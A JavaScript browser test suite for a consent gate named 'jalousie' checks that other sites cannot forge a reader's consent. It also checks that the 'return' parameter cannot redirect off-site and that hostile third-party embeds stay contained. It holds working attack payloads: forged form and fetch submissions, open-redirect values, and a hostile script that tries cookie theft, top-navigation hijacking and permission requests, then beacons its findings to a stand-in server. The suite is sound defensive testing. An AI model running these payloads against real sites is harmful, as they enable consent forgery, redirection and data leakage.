// Others try to consent for the reader, and what was let in tries to get out.
import assert from "node:assert/strict";
import { test } from "node:test";
import { inEachBrowser } from "./lab/harness.js";
import { GATE, GATE_TLS, names } from "./lab/index.js";
import { Tab, bare, eventually, notice } from "./lab/tab.js";
import { routes } from "./pages.js";

const fields = { decision: "accept", scope: "category", service: "youtube", category: "video", token: "", return: "/films" };
const evil = (body) => ({ body: `<!doctype html><title>evil</title>${body}` });

const forgedForm = (target) => evil(`<form id="f" method="post" action="${target}/_jalousie/consent">
${Object.entries(fields).map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`).join("\n")}
</form><script>f.submit()</script>`);

const forgedFetch = (target) => evil(`<p id="state">trying</p><script>
const tries = [
  { mode: "no-cors", credentials: "include" },
  { mode: "cors", credentials: "include" },
  { mode: "no-cors", credentials: "include", referrerPolicy: "no-referrer" },
];
Promise.allSettled(tries.map((options) => fetch("${target}/_jalousie/consent", {
  ...options, method: "POST", body: new URLSearchParams(${JSON.stringify(fields)}),
}))).then(() => (state.textContent = "done"));
</script>`);

for (const secure of [false, true]) {
  const site = secure ? GATE_TLS : GATE;
  inEachBrowser(`forged consent, ${secure ? "https" : "http"}`, { routes, gate: { secure } }, (stage) => {
    const assertNoConsent = async (reader) => {
      const mark = stage.wire.mark();
      const tab = await stage.visit("/films", { reader });
      assert.equal(await tab.consent(), null);
      assert.equal(await tab.openFrames(), 0);
      await stage.assertSilence(mark, reader, { except: ["evil.test"] });
    };

    test("a form that another site posts changes nothing", async () => {
      stage.lab.thirdParties.route("evil.test/form", forgedForm(site));
      const reader = await stage.reader();
      const page = await reader.open(`http://evil.test/form`);
      const tab = new Tab(page, reader);
      await eventually("the answer to the forged form", async () => (await tab.url()).startsWith(`${site}/_jalousie/consent`));
      await assertNoConsent(reader);
    });

    test("a form without referrer and with an opaque origin changes nothing", async () => {
      const inner = forgedForm(site).body.replaceAll('"', "&quot;");
      stage.lab.thirdParties.route("evil.test/opaque", evil(`<iframe sandbox="allow-scripts allow-forms" referrerpolicy="no-referrer" srcdoc="${inner}"></iframe>`));
      const reader = await stage.reader();
      await reader.open(`http://evil.test/opaque`);
      await stage.wire.quiet();
      await assertNoConsent(reader);
    });

    test("requests that another site's script sends change nothing", async () => {
      stage.lab.thirdParties.route("evil.test/fetch", forgedFetch(site));
      const reader = await stage.reader();
      const tab = new Tab(await reader.open(`http://evil.test/fetch`), reader);
      await eventually("the end of the tries", async () => (await tab.text("#state")) === "done");
      await assertNoConsent(reader);
    });

    test("a link to the consent endpoint changes nothing", async () => {
      const reader = await stage.reader();
      const query = new URLSearchParams(fields);
      stage.lab.thirdParties.route("evil.test/link", evil(`<a href="${site}/_jalousie/consent?${query}">a link</a>`));
      const tab = new Tab(await reader.open(`http://evil.test/link`), reader);
      await tab.follow("a");
      await assertNoConsent(reader);
    });

    test("a frame's address is worth nothing without the reader's consent", async () => {
      const reader = await stage.reader();
      const own = await stage.visit("/films", { reader });
      const address = await own.attribute(notice("youtube").figure, "data-jalousie-frame");
      assert.match(address, /\/_jalousie\/frame\//);
      stage.lab.thirdParties.route("evil.test/frame", evil(`<iframe src="${site}${address}"></iframe>`));
      const mark = stage.wire.mark();
      await reader.open("http://evil.test/frame");
      await stage.assertSilence(mark, reader, { except: ["evil.test"] });
      await own.goto(`${site}${address}`);
      await stage.assertSilence(mark, reader, { except: ["evil.test"] });
    });

    test("the reader's own consent works, with a cookie of this site only", async () => {
      const tab = await stage.visit("/films");
      await tab.press(notice("youtube").always);
      await tab.waitForFrames(3);
      const [cookie] = await tab.page.cookies();
      assert.equal(cookie.name, secure ? "__Host-eu-consent" : "eu-consent");
      assert.equal(bare(cookie.value), "v2.video:1");
      assert.equal(cookie.path, "/");
      assert.equal(cookie.domain, "site.test");
      assert.equal(cookie.sameSite, "Lax");
      assert.equal(cookie.secure, secure);
    });
  });
}

inEachBrowser("the way back", { routes }, (stage) => {
  for (const target of ["https://evil.test/", "//evil.test/", "/\\evil.test/", "/\t/evil.test/", "javascript:alert(1)"]) {
    test(`leads to this site only: ${JSON.stringify(target)}`, async () => {
      const tab = await stage.visit("/films");
      const mark = stage.wire.mark();
      const post = (fields) => {
        const form = Object.assign(document.createElement("form"), { method: "post", action: "/_jalousie/consent" });
        for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement("input"), { name, value }));
        document.body.append(form);
        HTMLFormElement.prototype.submit.call(form);
      };
      await tab.arrive("a choice", () => tab.page.evaluate(post, { ...fields, decision: "refuse", return: target }));
      assert.equal(new URL(await tab.url()).host, "site.test:8080");
      await stage.assertSilence(mark, tab.reader);
    });
  }
});

/** What a hostile third party tries once it was let in; each success is reported to its own server. */
const attack = (report) => `
(async () => {
  const got = [];
  const attempt = async (name, f) => { try { if (await f()) got.push(name); } catch {} };
  await attempt("read-parent", () => parent.document.body.innerHTML);
  await attempt("read-top", () => top.document.cookie !== undefined);
  await attempt("site-cookie", () => document.cookie.includes("consent"));
  await attempt("write-site-cookie", () => { document.cookie = "eu-consent=v1.social:1; path=/"; return false; });
  await attempt("own-frame-element", () => window.frameElement);
  await attempt("read-site-page", async () => (await fetch("${GATE}/plain")).ok);
  const forged = new URLSearchParams({ decision: "accept", scope: "all", service: "x", category: "social", token: "", return: "/" });
  await attempt("consent-fetch", async () => (await fetch("${GATE}/_jalousie/consent", { method: "POST", body: forged, credentials: "include" })).ok);
  await attempt("consent-no-cors", async () => { await fetch("${GATE}/_jalousie/consent", { method: "POST", body: forged, mode: "no-cors", credentials: "include" }); return false; });
  await attempt("consent-beacon", () => { navigator.sendBeacon("${GATE}/_jalousie/consent", forged); return false; });
  await attempt("top-navigation", () => { top.location = "http://evil.test/taken"; return false; });
  await attempt("pop-up", () => window.open("http://evil.test/popup"));
  await attempt("pop-up-leads-page", () => { const w = window.open(""); w.opener.top.location = "http://evil.test/led"; return true; });
  await attempt("page-object", () => parent.jalousie || top.jalousie);
  await attempt("name-of-the-page", () => { top.name = "x"; return top.name; });
  await attempt("ask-in-a-dialog", () => { const start = performance.now(); return confirm("Accept everything?") || prompt("?") || performance.now() - start > 1000; });
  await attempt("location-of-the-reader", () => new Promise((done) => { navigator.geolocation.getCurrentPosition(() => done(true), (error) => done(error.code !== 1)); setTimeout(() => done(true), 3000); }));
  await attempt("camera", async () => (await navigator.permissions.query({ name: "camera" })).state !== "denied");
  await attempt("notifications", async () => (await Notification.requestPermission()) === "granted");
  await attempt("service-worker", () => navigator.serviceWorker.register("/_jalousie/frame/sw.js"));
  await attempt("fullscreen", async () => { await document.documentElement.requestFullscreen(); return true; });
  await attempt("receipts", async () => (await fetch("${GATE}/_jalousie/receipts/download", { credentials: "include" })).ok);
  await attempt("notices", async () => (await fetch("${GATE}/_jalousie/notice", { method: "POST", body: "<iframe src=https://x.test/></iframe>" })).ok);
  await attempt("erase", async () => { await fetch("${GATE}/_jalousie/receipts/erase", { method: "POST", mode: "no-cors", body: new URLSearchParams({ return: "/" }) }); return false; });
  await attempt("channel", () => { new BroadcastChannel("jalousie").postMessage(0); return false; });
  for (const window of [parent, top]) {
    window.postMessage({ jalousie: { decision: "accept", scope: "all" } }, "*");
    window.postMessage({ jalousie: { height: "9; background: red" } }, "*");
    for (let n = 0; n < 500; n++) window.postMessage({ jalousie: { height: 1e9 + n } }, "*");
  }
  for (const page of ["preferences", "receipts", "service/youtube"]) document.body?.append(Object.assign(document.createElement("iframe"), { src: "${GATE}/_jalousie/" + page }));
  await attempt("leave-to-others", () => { new Image().src = "https://elsewhere.tracker.test/a.gif"; return false; });
  new Image().src = "${report}?" + (got.join(",") || "nothing");
})();`;

const dialogs = (tab) => tab.dialogs;
/** Opens a page, and notes what asks the reader something in a dialog. */
const visit = async (stage, path) => {
  const tab = Object.assign(await stage.visit(path), { path, dialogs: [] });
  tab.page.on("dialog", (dialog) => {
    tab.dialogs.push(dialog.message());
    dialog.dismiss();
  });
  return tab;
};
const heightOf = (tab) => tab.page.evaluate(() => document.querySelector(".jalousie-frame").getBoundingClientRect().height);

inEachBrowser("hostile content after consent", { routes }, (stage) => {
  const assertHeld = async (tab, mark, host) => {
    const report = await stage.request(mark, host, "/report.gif");
    const got = report.path.split("?")[1].split(",").filter((name) => name !== "nothing");
    assert.deepEqual(got, [], "what the hostile content could do");
    await stage.wire.quiet();
    assert.equal(new URL(await tab.url()).pathname, tab.path, "the page is still there");
    assert.deepEqual(dialogs(tab), [], "nobody asks in the publisher's name");
    // Of the gate's own pages none shows itself in somebody else's frame: no click can be stolen.
    assert.doesNotMatch(await tab.frameTexts(), /Your choices|receipts/i);
    assert.ok((await heightOf(tab)) <= 10_000, "a frame takes no more room than any post needs");
    assert.equal(await tab.consent(), null);
    await tab.reload();
    assert.equal(await tab.openFrames(), 0);
    return names(stage.wire.since(mark)).filter((name) => name !== host);
  };

  test("a third party's frame cannot reach, leave or consent for the page", async () => {
    const host = "www.youtube.com";
    stage.lab.thirdParties.route(`${host}/embed/one`, evil(`<script>${attack(`https://${host}/report.gif`)}</script>`));
    const tab = await visit(stage, "/films");
    const mark = stage.wire.mark();
    await tab.press(notice("youtube").once);
    // What that document loads is its own affair: it is the third party's. The page's policy ends at its frame.
    const others = await assertHeld(tab, mark, host);
    assert.deepEqual(others.filter((name) => name !== "elsewhere.tracker.test"), []);
  });

  test("a third party's script cannot either, and contacts its service's hosts only", async () => {
    const host = "platform.twitter.com";
    stage.lab.thirdParties.route(`${host}/widgets.js`, { type: "text/javascript", body: attack(`https://${host}/report.gif`) });
    const tab = await visit(stage, "/post");
    const mark = stage.wire.mark();
    await tab.press(notice("x").once);
    // On plain http, Firefox looks up the host of the post's link, which is this service's too.
    const others = await assertHeld(tab, mark, host);
    assert.deepEqual(others.filter((name) => name !== "twitter.com"), []);
  });

  test("a third party's frame has no say in its height", async () => {
    const host = "www.youtube.com";
    const flood = `for (let n = 1; n < 900; n++) for (const w of [parent, top]) w.postMessage({ jalousie: { height: 2000 + n } }, "*"); new Image().src = "https://${host}/sent.gif"`;
    stage.lab.thirdParties.route(`${host}/embed/one`, evil(`<script>${flood}</script>`));
    const tab = await visit(stage, "/films");
    const mark = stage.wire.mark();
    await tab.press(notice("youtube").once);
    await tab.waitForFrames(1);
    const before = await heightOf(tab);
    await stage.request(mark, host, "/sent.gif");
    await stage.wire.quiet();
    assert.equal(await heightOf(tab), before);
  });

  test("a click in it does not lead the page elsewhere", async () => {
    const host = "www.youtube.com";
    stage.lab.thirdParties.route(`${host}/embed/one`, evil(`<body style="margin:0"><a target="_top" href="http://evil.test/led" onclick="new Image().src='https://${host}/clicked.gif'" style="display:block;height:100vh">x</a>`));
    const tab = await visit(stage, "/films");
    const mark = stage.wire.mark();
    await tab.press(notice("youtube").once);
    await stage.request(mark, host, "/embed/one");
    await tab.shows("x");
    await tab.press(".jalousie-frame");
    await stage.request(mark, host, "/clicked.gif");
    await stage.wire.quiet();
    assert.equal(new URL(await tab.url()).pathname, "/films");
    // Pressing the mouse on a link makes Chromium connect, whatever comes of it.
    assert.equal(stage.wire.since(mark).some((event) => event.kind === "http" && event.name === "evil.test"), false);
  });

  test("a click stolen in a page of the site that it shows inside itself decides nothing", async () => {
    const host = "www.youtube.com";
    stage.lab.thirdParties.route(`${host}/embed/one`, evil(`<body style="margin:0"><iframe src="${GATE}/map" style="border:0;width:100%;height:100vh"></iframe>`));
    const tab = await visit(stage, "/films");
    const mark = stage.wire.mark();
    await tab.press(notice("youtube").once);
    await stage.request(mark, host, "/embed/one");
    const inner = () => tab.page.frames().find((frame) => frame.url() === `${GATE}/map`);
    const shown = await eventually("the site's page inside, or its refusal", async () => {
      const frame = inner();
      if (!frame) return stage.wire.quiet().then(() => "refused");
      return (await frame.$(notice("openstreetmap").always)) && frame;
    });
    if (shown !== "refused") {
      await (await shown.$(notice("openstreetmap").always)).click();
      await stage.wire.quiet();
    }
    assert.equal(await tab.consent(), null);
    const other = await stage.visit("/map", { reader: tab.reader });
    assert.equal(await other.openFrames(), 0);
  });
});
